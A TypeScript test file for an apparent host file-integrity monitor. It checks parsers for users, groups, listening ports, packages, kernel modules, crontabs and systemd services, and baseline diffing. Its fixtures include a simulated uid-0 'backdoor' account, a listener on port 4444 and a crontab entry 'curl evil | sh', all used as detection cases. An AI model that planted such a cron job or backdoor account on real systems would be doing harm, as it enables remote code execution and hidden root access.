import assert from 'node:assert/strict';
import { test } from 'node:test';
import { groupEntities, idNames, userEntities } from './account-entities.ts';
import { cronEntities } from './cron-entities.ts';
import { diffEntities } from './baseline-diff.ts';
import { listeningPortEntities } from './listening-port-entities.ts';
import { loadIntegrityRules } from './load-integrity-rules.ts';
import { dpkgPackageEntities, kernelModuleEntities } from './package-entities.ts';
import { serviceEntities } from './service-entities.ts';

const PASSWD = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
`;
const SHADOW = `root:$6$salt$hashhashhash:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
`;

test('users carry shadow metadata but never the hash', () => {
  const { entities } = userEntities(PASSWD, SHADOW, 'users');
  assert.equal(entities.length, 2);
  assert.deepEqual(entities[0], {
    kind: 'user',
    key: 'root',
    rule: 'users',
    attrs: {
      uid: 0,
      gid: 0,
      gecos: 'root',
      home: '/root',
      shell: '/bin/bash',
      password: 'set',
      lastchg: 19000,
      min: 0,
      max: 99999,
      warn: 7,
      inactive: null,
      expire: null,
    },
  });
  assert.equal(entities[1]!.attrs.password, 'locked');
  assert.ok(!JSON.stringify(entities).includes('hashhash'));
});

test('a new user in passwd and a changed shell are found', () => {
  const r = loadIntegrityRules('rules:\n  - id: users\n    type: users\n    severity: critical\n');
  assert.ok(r.ok);
  const before = userEntities(PASSWD, undefined, 'users').entities;
  const after = userEntities(
    `${PASSWD.replace('/usr/sbin/nologin', '/bin/sh')}backdoor:x:0:0::/tmp:/bin/sh\n`,
    undefined,
    'users',
  ).entities;
  const c = diffEntities(before, after, r.value);
  assert.deepEqual(
    c.map((x) => `${x.change} ${x.kind} ${x.key} ${x.severity}`),
    ['created user backdoor critical', 'updated user daemon critical'],
  );
  assert.deepEqual(c[1]!.attributes, [{ name: 'shell', before: '/usr/sbin/nologin', after: '/bin/sh' }]);
});

test('malformed passwd lines are reported and skipped', () => {
  const { entities, diagnostics } = userEntities('root:x:0:0:root:/root:/bin/bash\nbroken-line\n', undefined, 'u', '/etc/passwd');
  assert.equal(entities.length, 1);
  assert.deepEqual(
    diagnostics.map((d) => [d.code, d.line]),
    [['FIM_SOURCE_MALFORMED', 2]],
  );
});

test('groups and id names', () => {
  const { entities } = groupEntities('root:x:0:\nsudo:x:27:bob,alice\n', 'g');
  assert.deepEqual(entities[1]!.attrs, { gid: 27, members: ['alice', 'bob'] });
  const n = idNames(PASSWD, 'root:x:0:\n');
  assert.equal(n.users.get(1), 'daemon');
  assert.equal(n.groups.get(0), 'root');
});

const TCP = `  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 2222 1 0000000000000000 100 0 0 10 0
   1: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 3333 1 0000000000000000 100 0 0 10 0
   2: 0100007F:9C40 0100007F:0016 01 00000000:00000000 00:00000000 00000000  1000        0 4444 1 0000000000000000 100 0 0 10 0
`;
const TCP6 = `  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000000000000000000000000000:0050 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000    33        0 5555 1 0000000000000000 100 0 0 10 0
   1: 00000000000000000000000001000000:0277 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 6666 1 0000000000000000 100 0 0 10 0
`;
const UDP = `   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops
  100: 3500007F:0035 00000000:0000 07 00000000:00000000 00:00000000 00000000   101        0 7777 2 0000000000000000 0
`;

test('listening sockets from /proc/net text, established ones ignored', () => {
  const keys = [
    ...listeningPortEntities(TCP, 'tcp', 'p').entities,
    ...listeningPortEntities(TCP6, 'tcp', 'p').entities,
    ...listeningPortEntities(UDP, 'udp', 'p').entities,
  ].map((e) => `${e.key} uid=${e.attrs.uid}`);
  assert.deepEqual(keys, [
    'tcp/0.0.0.0:22 uid=0',
    'tcp/127.0.0.1:8080 uid=1000',
    'tcp/[::]:80 uid=33',
    'tcp/[::1]:631 uid=0',
    'udp/127.0.0.53:53 uid=101',
  ]);
});

test('a new listening port is a created entity', () => {
  const r = loadIntegrityRules('rules:\n  - id: ports\n    type: ports\n    severity: high\n');
  assert.ok(r.ok);
  const before = listeningPortEntities(TCP, 'tcp', 'ports').entities;
  const extra = `${TCP}   3: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 9999 1 0000000000000000 100 0 0 10 0\n`;
  const c = diffEntities(before, listeningPortEntities(extra, 'tcp', 'ports').entities, r.value);
  assert.deepEqual(
    c.map((x) => `${x.change} ${x.key} ${x.severity}`),
    ['created tcp/0.0.0.0:4444 high'],
  );
});

test('dpkg packages, kernel modules, crontabs, services', () => {
  const pk = dpkgPackageEntities(
    'Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2\n\nPackage: gone\nStatus: deinstall ok config-files\nVersion: 1\n',
    'p',
  ).entities;
  assert.deepEqual(
    pk.map((e) => [e.key, e.attrs.version]),
    [['openssh-server:amd64', '1:9.2p1-2']],
  );
  const km = kernelModuleEntities('nf_tables 344064 1 nft_chain_nat, Live 0x0000000000000000\next4 1048576 2 - Live 0x0\n', 'k').entities;
  assert.deepEqual(
    km.map((e) => [e.key, e.attrs.size]),
    [
      ['nf_tables', 344064],
      ['ext4', 1048576],
    ],
  );
  const cr = cronEntities(
    'SHELL=/bin/sh\n# comment\n17 *  * * * root  cd / && run-parts --report /etc/cron.hourly\n@reboot root /opt/x\n',
    '/etc/crontab',
    'c',
  ).entities;
  assert.deepEqual(
    cr.map((e) => [e.attrs.schedule, e.attrs.user, e.attrs.command]),
    [
      ['17 * * * *', 'root', 'cd / && run-parts --report /etc/cron.hourly'],
      ['@reboot', 'root', '/opt/x'],
    ],
  );
  const spool = cronEntities('* * * * * curl evil | sh\n', '/var/spool/cron/crontabs/bob', 'c', 'bob').entities;
  assert.equal(spool[0]!.attrs.user, 'bob');
  assert.equal(spool[0]!.attrs.command, 'curl evil | sh');
  const sv = serviceEntities(
    [
      { dir: '/usr/lib/systemd/system', name: 'ssh.service', sha256: 'a' },
      { dir: '/etc/systemd/system', name: 'ssh.service', sha256: 'b' },
      { dir: '/usr/lib/systemd/system', name: 'cups.service', sha256: 'c' },
      { dir: '/usr/lib/systemd/system', name: 'getty@.service', sha256: 'd' },
      { dir: '/etc/systemd/system', name: 'multi-user.target.wants/ssh.service', target: '/usr/lib/systemd/system/ssh.service' },
      { dir: '/etc/systemd/system', name: 'getty.target.wants/getty@tty1.service' },
      { dir: '/etc/systemd/system', name: 'cups.service', target: '/dev/null' },
    ],
    ['/etc/systemd/system', '/usr/lib/systemd/system'],
    's',
  ).entities;
  assert.deepEqual(
    sv.map((e) => [e.key, e.attrs.enabled, e.attrs.sha256 ?? null]),
    [
      ['cups.service', 'masked', 'c'],
      ['getty@.service', 'enabled', 'd'],
      ['ssh.service', 'enabled', 'b'],
    ],
  );
});
